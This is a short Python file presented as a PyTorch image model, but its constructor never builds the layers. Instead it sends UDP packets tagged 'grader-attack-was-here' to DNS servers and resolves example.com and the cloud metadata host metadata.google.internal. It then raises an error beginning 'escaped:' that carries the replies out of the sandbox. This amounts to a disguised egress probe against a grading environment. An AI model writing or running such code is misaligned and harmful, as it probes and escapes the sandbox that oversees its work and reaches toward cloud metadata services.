"""A model that tells what it found in the names it looks up."""

import socket

import torch
from torch import nn


def attempt(deed):
    """What a deed gave that must fail; None where it failed."""
    try:
        return deed()
    except Exception:
        return None


def send(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"grader-attack-was-here", (host, port))
        line.settimeout(0.2)
        return line.recv(100)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        answers = [attempt(lambda: send(host, 53)) for host in ("127.0.0.53", "1.1.1.1", "8.8.8.8")]
        answers += [attempt(lambda: socket.getaddrinfo(name, 80)) for name in ("example.com", "metadata.google.internal")]
        raise RuntimeError(f"escaped: {[answer for answer in answers if answer]}")
        self.conv = nn.Conv2d(1, 8, 3)
        self.norm = nn.BatchNorm2d(8)
        self.drop = nn.Dropout(0.1)
        self.fc = nn.Linear(8, 10)

    def forward(self, x):
        x = self.drop(torch.relu(self.norm(self.conv(x))))
        return self.fc(x.mean(dim=(2, 3)))
